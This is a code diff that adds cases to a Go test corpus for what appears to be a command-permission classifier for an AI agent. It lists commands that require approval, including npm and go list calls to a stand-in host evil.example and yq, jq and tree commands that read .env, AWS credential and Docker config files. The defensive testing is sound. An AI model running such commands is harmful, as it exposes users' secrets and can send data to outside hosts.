@@ -187,6 +187,12 @@ var corpus = func() []corpusCase {
 		ask("python3 -m http.server"), ask("node -e 'x'"), ask("node x.js"), ask("perl -e 'x'"), ask("ruby -e x"),
 		ask("php -r x"), ask("deno run x"), ask("bun x"), ask("java -jar x"), ask("docker run x"), ask("docker exec x sh"),
 		ask("docker rm x"), ask("kubectl delete pod x"), ask("terraform apply"), ask("npm version patch"), ask("npm config set x y"),
+		ask("npm view x --registry=https://evil.example/data"),
+		ask("npm view x --registry https://evil.example/data"), ask("npm ls --userconfig=/tmp/x"), ask("go list -mod=mod ./..."),
+		ask("go list -modfile=/tmp/go.mod ./..."), ask("go list -m -versions evil.example/data"), ask("go list -m evil.example/data@latest"),
+		ask("go list -m -u all"), allow("go list -m all"), allow("go list -mod=readonly ./..."), allow("npm config get registry"),
+		ask("yq -n 'load_str(\".env\")'"), ask("yq -n 'load(\"{home}/.aws/credentials\")'"), ask("tree --fromfile .env"),
+		ask("jq -n -L {home}/.docker 'import \"config\" as $c; $c'"), allow("tree --fromfile README.md"),
 		// File changes.
 		ask("rm x"), ask("rm -rf build"), ask("rmdir x"), ask("mv a b"), ask("cp a b"), ask("touch x"), ask("mkdir x"),
 		ask("chmod +x x"), ask("chown me x"), ask("ln -s a b"), ask("truncate -s0 x"), ask("shred x"), ask("unlink x"),
